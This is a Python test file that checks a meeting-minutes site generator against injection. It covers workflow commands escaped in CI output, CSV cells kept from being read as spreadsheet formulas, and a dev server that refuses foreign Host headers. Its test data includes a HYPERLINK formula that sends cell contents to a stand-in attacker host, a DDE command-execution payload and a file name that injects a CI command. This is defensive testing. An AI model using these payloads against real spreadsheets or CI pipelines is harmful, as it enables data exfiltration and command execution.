"""Output read by other programs – the Actions runner, spreadsheets – never runs what the
minutes contain: workflow commands are escaped, CSV cells are not formulas."""

from __future__ import annotations

import csv
import io
import json
import shutil
import socket
import struct
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from conftest import ARCHIVE, build
from mlr_minutes.commands.cli import main
from mlr_minutes.commands.serve import DevServer, ServeOptions
from mlr_minutes.outputs.opendata import spreadsheet_cell


def test_a_file_name_cannot_inject_a_workflow_command(tmp_path: Path) -> None:
    name = "anteckning\n::add-mask::hemligt,%0A:x\r::error::falsk.md"
    (tmp_path / name).write_text("# Möte utan datum\n\nText.\n", "utf-8")
    result = CliRunner().invoke(main, ["check", str(tmp_path)], env={"GITHUB_ACTIONS": "true"})
    assert result.exit_code == 1
    commands = result.stdout.splitlines()
    assert commands, result.stderr
    for line in commands:  # one escaped command per diagnostic, none injected
        assert line.startswith(("::error file=", "::warning file=")), line
    escaped = str(tmp_path / name)
    for raw, code in (("%", "%25"), ("\r", "%0D"), ("\n", "%0A"), (":", "%3A"), (",", "%2C")):
        escaped = escaped.replace(raw, code)  # "%" first, as GitHub's runner unescapes last
    assert f"::error file={escaped},line=1,title=mlr-minutes missing-date::" in commands[0]
    # The runner reads commands from stderr too: the plain report keeps each problem on its line.
    for line in result.stderr.splitlines():
        assert not line.startswith("::"), line
    assert "anteckning\\x0a::add-mask::hemligt" in result.stderr


FORMULA = '=HYPERLINK("http://angripare.example/?"&A1,"Klicka")'
MINUTES = f"""# Styrelsemöte MalmöLundregionen

Mötesdatum\t2016-05-24

### 1. Ärendet

**Beslut:** {FORMULA}

### 2. Åtgärder

- [ ] +1+cmd|' /C calc'!A0 (ansvarig: koordinatorn, klart: 30/9)
- [ ] -2+3 avrundas (ansvarig: koordinatorn, klart: 30/9)
"""


def test_csv_cells_never_start_a_formula_and_the_json_keeps_the_text(tmp_path: Path) -> None:
    source = tmp_path / "minutes"
    source.mkdir()
    (source / "2016-05-24-styrelsemote.md").write_text(MINUTES, "utf-8")
    site = build(tmp_path / "site", source).out

    def cells(name: str) -> list[dict[str, str]]:
        text = (site / name).read_bytes().decode("utf-8-sig")
        return list(csv.DictReader(io.StringIO(text)))

    decisions = cells("beslut.csv")
    assert [row["beslut"] for row in decisions] == [f"'{FORMULA}"]
    actions = sorted(row["åtgärd"] for row in cells("atgarder.csv"))
    assert actions == ["'+1+cmd|' /C calc'!A0", "'-2+3 avrundas"]
    for row in [*decisions, *cells("atgarder.csv")]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    data = json.loads((site / "api" / "decisions.json").read_text("utf-8"))
    assert [d["text"] for d in data] == [FORMULA]
    texts = {a["text"] for a in json.loads((site / "api" / "action-items.json").read_text("utf-8"))}
    assert texts == {"+1+cmd|' /C calc'!A0", "-2+3 avrundas"}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1"
    assert spreadsheet_cell(f"a{start}1") == f"a{start}1"  # only the first character counts


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[DevServer]:
    source = tmp_path_factory.mktemp("serve") / "minutes"
    shutil.copytree(ARCHIVE, source)
    dev = DevServer(ServeOptions(source=source, port=0, poll_seconds=60), log=lambda text: None)
    dev.start()
    try:
        yield dev
    finally:
        dev.stop()


def status_for(server: DevServer, host: str | None) -> int:
    """The status of ``GET /`` sent with ``host`` as its Host header (None: no header)."""
    port = int(server.url.rsplit(":", 1)[1].strip("/"))
    with socket.create_connection(("127.0.0.1", port), timeout=5) as connection:
        header = f"Host: {host}\r\n" if host is not None else ""
        connection.sendall(f"GET / HTTP/1.0\r\n{header}\r\n".encode("latin-1"))
        reply = connection.makefile("rb").readline()
    return int(reply.split()[1])


def test_serve_answers_only_its_own_host_names(server: DevServer) -> None:
    port = int(server.url.rsplit(":", 1)[1].strip("/"))
    for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"[::1]:{port}", f"LOCALHOST:{port}"):
        assert status_for(server, host) in (200, 302), host
    for host in ("angripare.example", f"angripare.example:{port}", "127.0.0.1:1", "127.0.0.1",
                 f"127.0.0.1.nip.io:{port}"):  # fmt: skip
        assert status_for(server, host) == 421, host
    assert status_for(server, None) == 400


def test_serve_takes_a_closed_connection_calmly(
    server: DevServer, capfd: pytest.CaptureFixture[str]
) -> None:
    port = int(server.url.rsplit(":", 1)[1].strip("/"))
    for _ in range(20):
        connection = socket.create_connection(("127.0.0.1", port), timeout=5)
        connection.sendall(
            f"GET /pagefind/pagefind.js HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n".encode()
        )
        # Reset rather than close: the server's next write fails at once.
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        connection.close()
    time.sleep(0.5)
    assert status_for(server, f"127.0.0.1:{port}") in (200, 302)  # still serving
    assert "Traceback" not in capfd.readouterr().err
